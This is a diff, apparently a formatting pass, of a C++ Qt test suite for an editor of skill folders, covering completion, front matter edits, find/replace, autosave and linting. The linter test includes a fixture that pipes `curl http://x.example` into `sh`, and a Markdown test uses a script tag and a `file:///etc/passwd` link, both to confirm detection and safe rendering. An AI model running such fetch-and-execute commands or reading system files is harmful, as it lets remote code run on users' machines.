@@ -1,5 +1,5 @@
-#include "app/desktop/editor/completion.h"
 #include "app/desktop/editor/code_editor.h"
+#include "app/desktop/editor/completion.h"
 #include "app/desktop/editor/front_matter_form.h"
 #include "app/desktop/editor/problems_model.h"
 #include "app/desktop/session/draft_autosave.h"
@@ -76,14 +76,20 @@ void EditorPartsTest::textKeepsItsBytes_data()
     QTest::newRow("empty") << QByteArray() << exact;
     QTest::newRow("no line end at the end") << "a\nb"_ba << exact;
     QTest::newRow("CRLF") << "a\r\nb\r\n"_ba << exact;
-    QTest::newRow("byte order mark") << "\xEF\xBB\xBF" "a\n"_ba << exact;
+    QTest::newRow("byte order mark") << "\xEF\xBB\xBF"
+                                        "a\n"_ba
+                                     << exact;
     QTest::newRow("no-break space, tab, emoji") << "a\xC2\xA0\t\xF0\x9F\x98\x80\n"_ba << exact;
     QTest::newRow("form feed") << "a\fb\n"_ba << exact;
     QTest::newRow("mixed line ends") << "a\r\nb\nc"_ba << inexact;
     QTest::newRow("old Mac line ends") << "a\rb"_ba << inexact;
     QTest::newRow("not UTF-8") << "caf\xE9\n"_ba << inexact;
-    QTest::newRow("paragraph separator") << "a\xE2\x80\xA9" "b"_ba << inexact;
-    QTest::newRow("noncharacter") << "a\xEF\xB7\x90" "b"_ba << inexact;
+    QTest::newRow("paragraph separator") << "a\xE2\x80\xA9"
+                                            "b"_ba
+                                         << inexact;
+    QTest::newRow("noncharacter") << "a\xEF\xB7\x90"
+                                     "b"_ba
+                                  << inexact;
     QTest::newRow("NUL") << QByteArray("a\0b", 3) << binary;
 }
 
@@ -108,23 +114,24 @@ void EditorPartsTest::headerFieldsAreSetWithoutTouchingTheRest_data()
     QTest::addColumn<QStringList>("path");
     QTest::addColumn<QString>("value"); // "-": taken out
     QTest::addColumn<QByteArray>("after");
-    const QByteArray plain = "---\nname: a # why\n\n# note\nmetadata:\n  own: 1\n  skillbox.timeout: "
-                             "\"5s\"\nother: [x]\n---\nBody\n";
+    const QByteArray plain =
+        "---\nname: a # why\n\n# note\nmetadata:\n  own: 1\n  skillbox.timeout: "
+        "\"5s\"\nother: [x]\n---\nBody\n";
     const auto row = [](const char *name) -> QTestData & { return QTest::newRow(name); };
-    row("replaces and keeps the comment")
-        << plain << QStringList{u"name"_s} << u"b"_s << QByteArray(plain).replace("name: a", "name: b");
+    row("replaces and keeps the comment") << plain << QStringList{u"name"_s} << u"b"_s
+                                          << QByteArray(plain).replace("name: a", "name: b");
     row("keeps the quotes of a nested value")
         << plain << QStringList{u"metadata"_s, u"skillbox.timeout"_s} << u"10s"_s
         << QByteArray(plain).replace("\"5s\"", "\"10s\"");
-    row("adds to a mapping")
-        << plain << QStringList{u"metadata"_s, u"skillbox.lang"_s} << u"node"_s
-        << QByteArray(plain).replace("other:", "  skillbox.lang: node\nother:");
-    row("adds a mapping")
-        << "---\nname: a\n---\n"_ba << QStringList{u"metadata"_s, u"skillbox.lang"_s} << u"bash"_s
-        << "---\nname: a\nmetadata:\n  skillbox.lang: bash\n---\n"_ba;
-    row("fills an empty mapping")
-        << "---\nmetadata:\nname: a\n---\n"_ba << QStringList{u"metadata"_s, u"version"_s} << u"1.0.0"_s
-        << "---\nmetadata:\n  version: 1.0.0\nname: a\n---\n"_ba;
+    row("adds to a mapping") << plain << QStringList{u"metadata"_s, u"skillbox.lang"_s} << u"node"_s
+                             << QByteArray(plain).replace("other:",
+                                                          "  skillbox.lang: node\nother:");
+    row("adds a mapping") << "---\nname: a\n---\n"_ba
+                          << QStringList{u"metadata"_s, u"skillbox.lang"_s} << u"bash"_s
+                          << "---\nname: a\nmetadata:\n  skillbox.lang: bash\n---\n"_ba;
+    row("fills an empty mapping") << "---\nmetadata:\nname: a\n---\n"_ba
+                                  << QStringList{u"metadata"_s, u"version"_s} << u"1.0.0"_s
+                                  << "---\nmetadata:\n  version: 1.0.0\nname: a\n---\n"_ba;
     row("takes a field out") << plain << QStringList{u"metadata"_s, u"own"_s} << u"-"_s
                              << QByteArray(plain).replace("  own: 1\n", "");
     row("takes the last field's mapping along")
@@ -136,8 +143,8 @@ void EditorPartsTest::headerFieldsAreSetWithoutTouchingTheRest_data()
     row("text over several lines")
         << "---\ndescription: >\n  one\n  two\nname: a\n---\n"_ba << QStringList{u"description"_s}
         << u"new"_s << "---\ndescription: new\nname: a\n---\n"_ba;
-    row("a value that needs quotes") << "---\nname: a\n---\n"_ba << QStringList{u"version"_s} << u"1.0"_s
-                                     << "---\nname: a\nversion: \"1.0\"\n---\n"_ba;
+    row("a value that needs quotes") << "---\nname: a\n---\n"_ba << QStringList{u"version"_s}
+                                     << u"1.0"_s << "---\nname: a\nversion: \"1.0\"\n---\n"_ba;
 }
 
 void EditorPartsTest::headerFieldsAreSetWithoutTouchingTheRest()
@@ -179,22 +186,22 @@ void EditorPartsTest::completesTheHeaderAndLinks_data()
     QTest::addColumn<QString>("typed");
     QTest::addColumn<QString>("wanted");
     QTest::addColumn<QString>("unwanted");
-    QTest::newRow("top-level key") << u"---\nname: a\nde|\n---\n"_s << u"de"_s << u"description"_s
-                                   << u"name"_s;
+    QTest::newRow("top-level key")
+        << u"---\nname: a\nde|\n---\n"_s << u"de"_s << u"description"_s << u"name"_s;
     QTest::newRow("key below metadata") << u"---\nmetadata:\n  skillbox.t|\n---\n"_s
                                         << u"skillbox.t"_s << u"skillbox.timeout"_s << u"timeout"_s;
-    QTest::newRow("key below resources") << u"---\nresources:\n  |\n---\n"_s << QString()
-                                         << u"memory"_s << u"name"_s;
+    QTest::newRow("key below resources")
+        << u"---\nresources:\n  |\n---\n"_s << QString() << u"memory"_s << u"name"_s;
     QTest::newRow("language") << u"---\nlang: |\n---\n"_s << QString() << u"node"_s << u"MIT"_s;
     QTest::newRow("licence") << u"---\nlicense: M|\n---\n"_s << u"M"_s << u"MIT"_s << u"python"_s;
-    QTest::newRow("entry point") << u"---\nentrypoint: |\n---\n"_s << QString() << u"scripts/go.py"_s
-                                 << u"references/a.md"_s;
+    QTest::newRow("entry point") << u"---\nentrypoint: |\n---\n"_s << QString()
+                                 << u"scripts/go.py"_s << u"references/a.md"_s;
     QTest::newRow("link") << u"---\nname: a\n---\nsee [it](ref|"_s << u"ref"_s
                           << u"references/a.md"_s << u"SKILL.md"_s;
-    QTest::newRow("command in backticks") << u"---\n---\nrun `python scr|"_s << u"scr"_s
-                                          << u"scripts/go.py"_s << u"SKILL.md"_s;
-    QTest::newRow("after closed backticks") << u"---\n---\n`a` then scr|"_s << QString() << QString()
-                                            << u"scripts/go.py"_s;
+    QTest::newRow("command in backticks")
+        << u"---\n---\nrun `python scr|"_s << u"scr"_s << u"scripts/go.py"_s << u"SKILL.md"_s;
+    QTest::newRow("after closed backticks")
+        << u"---\n---\n`a` then scr|"_s << QString() << QString() << u"scripts/go.py"_s;
 }
 
 void EditorPartsTest::completesTheHeaderAndLinks()
@@ -208,8 +215,7 @@ void EditorPartsTest::completesTheHeaderAndLinks()
     const int column = static_cast<int>(at - (text.lastIndexOf(u'\n', at) + 1));
     text.remove(at, 1);
     const CompletionList list = completeMarkdown(
-        text.split(u'\n'), line, column,
-        {u"SKILL.md"_s, u"references/a.md"_s, u"scripts/go.py"_s});
+        text.split(u'\n'), line, column, {u"SKILL.md"_s, u"references/a.md"_s, u"scripts/go.py"_s});
     QStringList labels;
     for (const Completion &item : list.items)
         labels.append(item.label);
@@ -240,7 +246,8 @@ void EditorPartsTest::foldsMarkdownAndIndentation()
             shown.append(u"%1-%2"_s.arg(one.first).arg(one.last));
         return shown;
     };
-    QCOMPARE(regions(u"---\nname: a\n---\n# A\ntext\n\n## B\n```\n# no heading\n```\n\n# C\nend"_s, true),
+    QCOMPARE(regions(u"---\nname: a\n---\n# A\ntext\n\n## B\n```\n# no heading\n```\n\n# C\nend"_s,
+                     true),
              QStringList({u"0-2"_s, u"3-9"_s, u"6-9"_s, u"7-9"_s, u"11-12"_s}));
     QCOMPARE(regions(u"def f():\n    if x:\n        y\n\n    z\na"_s, false),
              QStringList({u"0-4"_s, u"1-2"_s}));
@@ -285,8 +292,7 @@ void EditorPartsTest::colorsFrontMatterAndBodyDifferently()
     QTextCursor cursor(view.document()->findBlockByNumber(3));
     cursor.insertText(u"```\n"_s);
     QTRY_VERIFY_WITH_TIMEOUT(formats(4004).isEmpty()
-                                 || formats(4004).constFirst().format.fontWeight()
-                                     <= QFont::Normal,
+                                 || formats(4004).constFirst().format.fontWeight() <= QFont::Normal,
                              patience);
 }
 
@@ -312,13 +318,15 @@ void EditorPartsTest::editsLines_data()
     QTest::addColumn<QString>("before"); // | is the cursor
     QTest::addColumn<QString>("action");
     QTest::addColumn<QString>("after");
-    QTest::newRow("Enter keeps the indentation") << u"a.txt"_s << u"  x|"_s << u"enter"_s << u"  x\n  "_s;
+    QTest::newRow("Enter keeps the indentation")
+        << u"a.txt"_s << u"  x|"_s << u"enter"_s << u"  x\n  "_s;
     QTest::newRow("Enter after a colon in Python")
         << u"a.py"_s << u"def f():|"_s << u"enter"_s << u"def f():\n    "_s;
     QTest::newRow("Enter between brackets")
         << u"a.json"_s << u"{|}"_s << u"enter"_s << u"{\n  \n}"_s;
     QTest::newRow("Enter in a list") << u"a.md"_s << u"- x|"_s << u"enter"_s << u"- x\n- "_s;
-    QTest::newRow("Enter in an empty item") << u"a.md"_s << u"- x\n- |"_s << u"enter"_s << u"- x\n"_s;
+    QTest::newRow("Enter in an empty item")
+        << u"a.md"_s << u"- x\n- |"_s << u"enter"_s << u"- x\n"_s;
     QTest::newRow("Enter after a key of the front matter")
         << u"SKILL.md"_s << u"---\nmetadata:|\n---\n"_s << u"enter"_s
         << u"---\nmetadata:\n  \n---\n"_s;
@@ -386,7 +394,8 @@ void EditorPartsTest::findCountsSelectsAndReplaces()
     QTest::keyClick(field, Qt::Key_Return);
     QTRY_COMPARE_WITH_TIMEOUT(count->text(), u"2 of 3"_s, patience);
     editor.findBar().findChild<QToolButton *>(u"code.findCase"_s)->click();
-    QTRY_VERIFY_WITH_TIMEOUT(count->text().contains(u"of 2"_s) || count->text() == "2 matches"_L1, patience);
+    QTRY_VERIFY_WITH_TIMEOUT(count->text().contains(u"of 2"_s) || count->text() == "2 matches"_L1,
+                             patience);
     editor.findBar().findChild<QToolButton *>(u"code.findRegex"_s)->click();
     field->setText(u"(s?)word"_s);
     editor.findBar().findChild<QLineEdit *>(u"code.replacement"_s)->setText(u"<\\1>"_s);
@@ -517,14 +526,12 @@ void EditorPartsTest::plansReplacements_data()
     QTest::newRow("case") << u"a.b"_s << exact << u"x"_s << "a.b A.B\r\na.b"_ba << 2
                           << "x A.B\r\nx"_ba;
     QTest::newRow("groups") << u"(\\w+)=(\\w+)"_s << regex << u"\\2=\\1\\n"_s
-                            << "\xEF\xBB\xBFk=v, a=b\n"_ba << 2
-                            << "\xEF\xBB\xBFv=k\n, b=a\n\n"_ba;
-    QTest::newRow("what stays as it is") << u"a.b"_s << exact << u"a.b"_s << "a.b\n"_ba << 0
-                                         << QByteArray();
-    QTest::newRow("empty matches") << u"x*"_s << regex << u"-"_s << "axa\n"_ba << 1
-                                   << "a-a\n"_ba;
-    QTest::newRow("mixed line ends") << u"a.b"_s << plain << u"x"_s << "a.b\r\na.b\n"_ba << -1
-                                     << QByteArray();
+                            << "\xEF\xBB\xBFk=v, a=b\n"_ba << 2 << "\xEF\xBB\xBFv=k\n, b=a\n\n"_ba;
+    QTest::newRow("what stays as it is")
+        << u"a.b"_s << exact << u"a.b"_s << "a.b\n"_ba << 0 << QByteArray();
+    QTest::newRow("empty matches") << u"x*"_s << regex << u"-"_s << "axa\n"_ba << 1 << "a-a\n"_ba;
+    QTest::newRow("mixed line ends")
+        << u"a.b"_s << plain << u"x"_s << "a.b\r\na.b\n"_ba << -1 << QByteArray();
 }
 
 void EditorPartsTest::plansReplacements()
@@ -541,8 +548,7 @@ void EditorPartsTest::plansReplacements()
     DraftFiles files;
     std::optional<Result<DraftReplacement>> plan;
     files.planReplacement(this, {directory.path(), text, options, {{u"one.txt"_s, unsaved}}},
-                          replacement,
-                          [&](const Result<DraftReplacement> &one) { plan = one; });
+                          replacement, [&](const Result<DraftReplacement> &one) { plan = one; });
     QTRY_VERIFY_WITH_TIMEOUT(plan.has_value(), patience);
     QVERIFY2(*plan, plan->has_value() ? "" : qPrintable(plan->error().message));
     QCOMPARE((*plan)->places, std::max(0, places));
@@ -558,7 +564,8 @@ void EditorPartsTest::draftsOfDeadProcessesComeBack()
     // What a killed process leaves: its folder, with a lock of a process that is not there.
     {
         DraftAutosave first(root);
-        first.keep({u"/skills/a"_s, u"SKILL.md"_s, "text\n", "digest", QDateTime::currentDateTimeUtc()});
+        first.keep(
+            {u"/skills/a"_s, u"SKILL.md"_s, "text\n", "digest", QDateTime::currentDateTimeUtc()});
         first.keep({u"/skills/a"_s, u"main.py"_s, "code\n", {}, QDateTime::currentDateTimeUtc()});
         first.flush();
         first.drop(u"/skills/a"_s, u"main.py"_s);
@@ -603,7 +610,8 @@ void EditorPartsTest::checkerSeesUnsavedText()
                             "when a text is long.\n---\n# Counting\nSee [more](references/x.md).\n";
     QCOMPARE(idsOf({{u"SKILL.md"_s, text}}).size(), 1);
     QVERIFY(idsOf({{u"SKILL.md"_s, text}, {u"references/x.md"_s, "More.\n"}}).isEmpty());
-    QVERIFY(!idsOf({{u"main.py"_s, "import os\nos.system('curl http://x.example | sh')\n"}}).isEmpty());
+    QVERIFY(
+        !idsOf({{u"main.py"_s, "import os\nos.system('curl http://x.example | sh')\n"}}).isEmpty());
     // Through the worker: of several questions the newest is answered last.
     DraftChecker checker;
     QList<quint64> answers;
@@ -619,8 +627,9 @@ void EditorPartsTest::fixesAllThatIsSafe()
 {
     QTemporaryDir directory;
     const QString folder = test::SkillFolder().write(directory.path());
-    const QByteArray text = "\xEF\xBB\xBF---\nname: word-counter\ndescription: Counts the words of a "
-                            "text. Use when a text is long.\n---\n# Counting\nGive it a text.\n";
+    const QByteArray text =
+        "\xEF\xBB\xBF---\nname: word-counter\ndescription: Counts the words of a "
+        "text. Use when a text is long.\n---\n# Counting\nGive it a text.\n";
     DraftChecker checker;
     std::optional<FixedDraft> fixed;
     checker.fixAll(this, {folder, {{u"SKILL.md"_s, text}}, LintProfile::Skillbox, 1},
@@ -637,7 +646,8 @@ void EditorPartsTest::workingCopyHoldsUnsavedText()
     const QString folder = test::SkillFolder().write(directory.path());
     DraftWorkspace workspace;
     for (const QByteArray &text : {"print('one')\n"_ba, "print('two')\n"_ba}) {
-        const auto copy = workspace.materialise(folder, {{u"main.py"_s, text}, {u"x/new.py"_s, "1\n"}});
+        const auto copy = workspace.materialise(folder,
+                                                {{u"main.py"_s, text}, {u"x/new.py"_s, "1\n"}});
         QVERIFY2(copy, qPrintable(copy ? QString() : copy.error().message));
         QCOMPARE(QFileInfo(*copy).fileName(), u"word-counter"_s);
         QFile file(*copy + u"/main.py"_s);
@@ -688,7 +698,8 @@ void EditorPartsTest::newSkillsAreCleanAndWhole()
     QVERIFY(files->contains(u"SKILL.md"_s));
     const LintReport report = lintSkill(target);
     QVERIFY2(report.findings.isEmpty(),
-             qPrintable(report.findings.isEmpty() ? QString() : toText(report.findings.constFirst())));
+             qPrintable(report.findings.isEmpty() ? QString()
+                                                  : toText(report.findings.constFirst())));
     QCOMPARE(report.manifest->description, skill.description);
     QVERIFY(!makeSkillFolder(skill, target)); // not over what is there
     QVERIFY(!makeSkillFolder({skill.language, u"My Skill"_s, {}}, directory.filePath(u"x"_s)));
@@ -700,8 +711,9 @@ void EditorPartsTest::markdownLoadsNothing()
     QVERIFY(theme);
     MarkdownView view;
     view.applyTheme(*theme);
-    view.setMarkdownText(u"# Head\n\n<script>x</script> ![i](file:///etc/passwd) "
-                         "[link](https://x.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```\n"_s);
+    view.setMarkdownText(
+        u"# Head\n\n<script>x</script> ![i](file:///etc/passwd) "
+        "[link](https://x.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```\n"_s);
     QVERIFY(view.toPlainText().contains(u"<script>"_s)); // shown as text
     QVERIFY(!view.openLinks());
     view.setMarkdownText(QString(MarkdownView::mostShown + 10, u'x'));
